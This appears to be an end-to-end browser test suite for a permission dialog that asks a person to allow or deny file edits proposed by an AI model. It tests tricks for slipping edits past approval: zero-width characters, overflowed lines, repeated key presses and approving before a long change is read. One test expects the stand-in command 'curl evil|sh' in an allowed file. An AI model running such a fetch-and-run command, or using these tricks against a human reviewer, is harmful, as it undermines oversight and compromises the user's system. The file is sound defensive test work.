// The questions of the page, with a model that wants them misread: everything is there to be read, and no answer is taken
// before it was.
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import type { Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { editOf, hostileEdits, type HostileEdit } from '../../../test/permission/hostile-edits.ts';
import { openStage, type Stage } from '../../../test/web/stage.ts';
import { answered, openVisits, sizes, type Visits } from './app-browser.ts';
import { buildApp } from '../src/app-files.ts';

let stage: Stage;
let visits: Visits;
let now: HostileEdit;

beforeAll(async () => {
  await buildApp();
  stage = await openStage({ script: async (request) => editOf(now, request) });
  visits = await openVisits(stage);
}, 240_000);

afterAll(async () => {
  await visits[Symbol.asyncDispose]();
  await stage[Symbol.asyncDispose]();
});

async function asked(page: Page, edit: HostileEdit): Promise<Locator> {
  now = edit;
  await mkdir(dirname(join(stage.root, edit.path)), { recursive: true });
  await writeFile(join(stage.root, edit.path), edit.before);
  await page.getByLabel('Message', { exact: true }).fill('please edit');
  await page.getByRole('button', { name: 'Send' }).click();
  const question = page.getByRole('region', { name: /Question: Change/ });
  await question.waitFor();
  return question;
}

const textIn = (path: string): Promise<string> => readFile(join(stage.root, path), 'utf8');

describe('a question on the page', { timeout: 240_000, tags: ['d-question-whole'] }, () => {
  test.each(hostileEdits.map((edit) => [edit.title, edit] as const))(
    'attack: %s is shown',
    async (_, edit) => {
      const visit = await visits.visit({ viewport: sizes.small });
      const { page } = visit;
      const question = await asked(page, edit);
      const shown = (await question.locator('pre').textContent()) ?? '';
      expect(shown).toContain(edit.shown);
      expect(shown.replaceAll(/[\n\t]/g, '')).not.toMatch(/[\p{Cc}\p{Cf}]/u);
      await expect.poll(() => question.locator('h2').textContent()).toContain(edit.path);
      // No line is cut or hidden at the side.
      const isCut = await question
        .locator('pre')
        .evaluate((element) => element.scrollWidth > element.clientWidth + 1);
      expect(isCut).toBe(false);
      await visit.axe();
      await question.getByRole('button', { name: 'Deny' }).click();
      await answered(page);
      expect(await textIn(edit.path)).toBe(edit.before);
      visit.verdict();
    },
  );
});

describe('an answer on the page', { timeout: 240_000, tags: ['d-question-answered'] }, () => {
  test('attack: a click that was meant for something else, and a key that is held, answer nothing', async () => {
    const visit = await visits.visit();
    const { page } = visit;
    const glue = hostileEdits.find(({ title }) => title === 'a letter without width');
    if (!glue) throw new Error('no such edit');
    // What the button was when it came: a busy machine may ask only after it was let go.
    await page.evaluate(() => {
      const watcher = new MutationObserver(() => {
        const button = [...document.querySelectorAll('button')].find(
          ({ textContent }) => textContent === 'Allow this time',
        );
        if (!button) return;
        watcher.disconnect();
        document.body.dataset['allowCame'] = button.disabled ? 'disabled' : 'open';
      });
      watcher.observe(document.body, { childList: true, subtree: true });
    });
    const question = await asked(page, { ...glue, path: 'held.js' });
    const allow = question.getByRole('button', { name: 'Allow this time' });
    await expect.poll(() => page.locator('body').getAttribute('data-allow-came')).toBe('disabled');
    await expect.poll(() => allow.isDisabled()).toBe(false);
    await allow.focus();
    // A key that has been down since before: the browser marks it as repeated.
    await allow.evaluate((element) =>
      element.dispatchEvent(
        new KeyboardEvent('keydown', {
          key: 'Enter',
          repeat: true,
          bubbles: true,
          cancelable: true,
        }),
      ),
    );
    expect(await textIn('held.js')).toContain('"admin"');
    await allow.click();
    await answered(page);
    expect(await textIn('held.js')).toContain('\u200b');
    visit.verdict();
  });

  test('attack: a long change is not allowed before its end was reached', async () => {
    const visit = await visits.visit();
    const { page } = visit;
    const [long] = hostileEdits;
    if (!long) throw new Error('no such edit');
    const question = await asked(page, { ...long, path: 'long.sh' });
    const allow = question.getByRole('button', { name: 'Allow this time' });
    await page.waitForTimeout(1_500);
    await expect.poll(() => allow.isDisabled()).toBe(true);
    await question.locator('pre').evaluate((element) => {
      element.scrollTop = element.scrollHeight;
    });
    await expect.poll(() => allow.isDisabled()).toBe(false);
    await allow.click();
    await answered(page);
    expect(await textIn('long.sh')).toContain('curl evil|sh');
    visit.verdict();
  });

  test('an answer that did not arrive can be given again', async () => {
    const visit = await visits.visit();
    const { page } = visit;
    const [edit] = hostileEdits;
    if (!edit) throw new Error('no such edit');
    const question = await asked(page, { ...edit, path: 'lost.sh' });
    await page.route('**/permissions/**', (route) => route.abort(), { times: 1 });
    const deny = question.getByRole('button', { name: 'Deny' });
    await deny.click();
    await page.getByText('The Percept server does not answer.').waitFor();
    await deny.click();
    await answered(page);
    expect(await textIn('lost.sh')).toBe(edit.before);
  });

  test('a page that gets no frames shows what happens all the same', async () => {
    const visit = await visits.visit();
    const { page } = visit;
    await page.evaluate(() => {
      window.requestAnimationFrame = () => 0;
    });
    const [edit] = hostileEdits;
    if (!edit) throw new Error('no such edit');
    const question = await asked(page, { ...edit, path: 'hidden.sh' });
    await question.getByRole('button', { name: 'Deny' }).click();
    await answered(page);
    expect(await textIn('hidden.sh')).toBe(edit.before);
    visit.verdict();
  });
});
